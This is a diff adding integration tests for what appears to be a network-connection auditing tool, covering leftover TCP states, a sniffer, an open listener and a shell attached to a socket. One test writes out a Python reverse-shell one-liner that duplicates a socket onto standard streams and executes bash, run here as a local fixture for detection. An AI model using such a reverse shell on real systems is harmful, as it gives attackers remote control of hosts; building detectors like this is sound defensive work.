@@ -398,6 +398,93 @@ def test_a_packaged_service():
         live.equal({f["verdict"] for f in remains}, {"explained"}, "remains")
 
 
+REMOTE = """
+import select, socket
+listening = socket.create_server(("10.77.0.2", 7443))
+print(flush=True)
+watched, kept = [listening], []
+while True:
+    for s in select.select(watched, [], [])[0]:
+        if s is listening:
+            watched.append(s.accept()[0])
+            continue
+        watched.remove(s)
+        kept.append(s) if s.recv(100) == b"stolen" else s.close()
+"""
+
+
+class Elsewhere:
+    """A host of its own, 10.77.0.2: keeps what sends b"stolen" half open, closes the others when they close."""
+
+    def __init__(self, s):
+        self.process = s.start("unshare", "-n", "/usr/bin/python3", "-c", "import sys;sys.stdin.readline()\n" + REMOTE,
+                               stdout=subprocess.PIPE)
+        live.shell("ip link add near type veth peer name away; ip addr add 10.77.0.1/24 dev near; ip link set near up")
+        pid = self.process.pid
+        scene.wait_until("a namespace of its own", lambda: os.stat("/proc/%d/ns/net" % pid).st_ino
+                         != os.stat("/proc/self/ns/net").st_ino)
+        live.shell("ip link set away netns %d; nsenter -n -t %d sh -c 'ip addr add 10.77.0.2/24 dev away; ip link set away up'"
+                   % (pid, pid))
+        self.process.stdin.write(b"\n")
+        self.process.stdin.flush()
+        self.process.stdout.readline()
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *_):
+        self.process.kill()
+        self.process.wait()
+        subprocess.run(["ip", "link", "del", "near"], check=False)
+
+
+def verdicts(*only, **kwargs):
+    return [(f["verdict"], "remains" in f["rules"]) for f in audit(*only, **kwargs)["findings"]]
+
+
+def test_remains_of_clients():
+    """What a process has closed and the kernel still delivers is nobody's that is known: it may be an intruder's."""
+    with Scene() as s, Elsewhere(s):
+        over, closing = "dport = 7443 and state time-wait", "dport = 7443 and ( state fin-wait-1 or state fin-wait-2 )"
+        with socket.create_connection(("10.77.0.2", 7443)):
+            pass
+        scene.wait_until("TIME_WAIT", lambda: live.rows(over))
+        live.equal(verdicts(over), [("unexplained", False)], "of nobody that is here")
+        s.start("curl", "-sNT", "-", "telnet://10.77.0.2:7443")
+        scene.wait_until("curl talks", lambda: live.rows("dport = 7443 and exe curl", columns="pid"))
+        live.equal(verdicts(over), [("explained", True)], "ended, to whom only curl talks")
+        with socket.create_connection(("10.77.0.2", 7443)) as thief:
+            thief.send(b"stolen")
+        scene.wait_until("FIN_WAIT2", lambda: live.rows(closing))
+        live.equal(verdicts(closing), [("unexplained", False)], "a thief's")
+        live.equal(verdicts(over), [("unexplained", False)], "ended, to whom somebody else talks, too")
+        with open("/srv/policy", "w") as f:
+            f.write('expect "web" dport = 7443\n')
+        live.equal(verdicts(closing, policy="/srv/policy"), [("unexplained", False)], "by the policy")
+
+
+def test_remains_of_services():
+    """The end at a service's own socket is the service's; the other one is not."""
+    with Scene() as s:
+        p = git_daemon(s, 9418)
+        client = socket.create_connection(("127.0.0.1", 9418))
+        s.sockets.append(client)
+        served = "sport = 9418 and state established and exe git*"
+        scene.wait_until("it is served", lambda: live.rows(served, columns="pid"))
+        for pid in {p.pid, *(row["pid"] for row in live.rows(served, columns="pid"))}:
+            os.kill(pid, signal.SIGKILL)
+        git_daemon(s, 9418)
+        scene.wait_until("FIN_WAIT2", lambda: live.rows("sport = 9418 and state fin-wait-2"))
+        live.equal(verdicts("sport = 9418 and state fin-wait-2"), [("explained", True)], "the service's end")
+    with Scene() as s:
+        p = git_daemon(s, 9418)
+        os.kill(p.pid, signal.SIGSTOP)
+        with socket.create_connection(("127.0.0.1", 9418)) as thief:
+            thief.send(b"stolen")
+        scene.wait_until("FIN_WAIT2", lambda: live.rows("dport = 9418 and state fin-wait-2"))
+        live.equal(verdicts("dport = 9418 and state fin-wait-2"), [("unexplained", False)], "the client's end")
+
+
 def test_what_runs_programs_of_others():
     """A packaged loader explains nothing of what it was given to run."""
     loader = os.path.realpath(next(name for name in ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1")
@@ -524,6 +611,33 @@ def test_policy():
                     'expect "local" direction incoming and dst 10.0.0.0/8 and src 127.0.0.1\n')
         text = live.run("audit", "--policy=/srv/policy", expect=None).stdout.decode()
         live.equal(text.count("src is the local end"), 1, "the hint about the rule that nothing matched")
+
+
+def test_what_a_policy_accepts():
+    """What is expected is accused all the same, unless the policy names the rule; a baseline names what it found."""
+    with Scene() as s:
+        sock, port = s.attacker()
+        sniffs = s.intruder(s.copy("/srv/own"), "packet")
+        opens = s.intruder("/srv/own", "listen", "0.0.0.0", 50505)
+        s.copy("/srv/shell", "/bin/bash")
+        shell = s.start("/usr/bin/python3", "-c", "import os,socket\ns=socket.create_connection(('127.0.0.1',%d))\n"
+                        "[os.dup2(s.fileno(),i) for i in (0,1,2)]\nos.execv('/srv/shell',['shell'])" % port)
+        s.accept(sock)
+        scene.wait_until("the shell", lambda: os.readlink("/proc/%d/exe" % shell.pid) == "/srv/shell")
+        found = ((sniffs["pid"], "sniffer"), (opens["pid"], "open-dynamic-listener"), (shell.pid, "shell-on-socket"))
+        for despite in ("", "despite " + ",".join(rule for _, rule in found)):
+            with open("/srv/policy", "w") as f:
+                f.writelines('expect "ours" exe %s %s\n' % (path, despite) for path in ("/srv/own", "/srv/shell"))
+            doc = audit(policy="/srv/policy")
+            for pid, rule in found:
+                expect(doc, pid, "explained" if despite else "suspicious", "policy-expect", rule)
+        baseline = live.run("baseline").stdout.decode()
+        with open("/srv/policy", "w") as f:
+            f.write(baseline)
+        doc = audit(policy="/srv/policy")
+        for pid, rule in found:
+            expect(doc, pid, "suspicious", "policy-expect", rule)
+            live.holds("# suspicious, unless you add: despite %s\n" % rule in baseline, baseline)
 
 
 def test_kernel_socket():
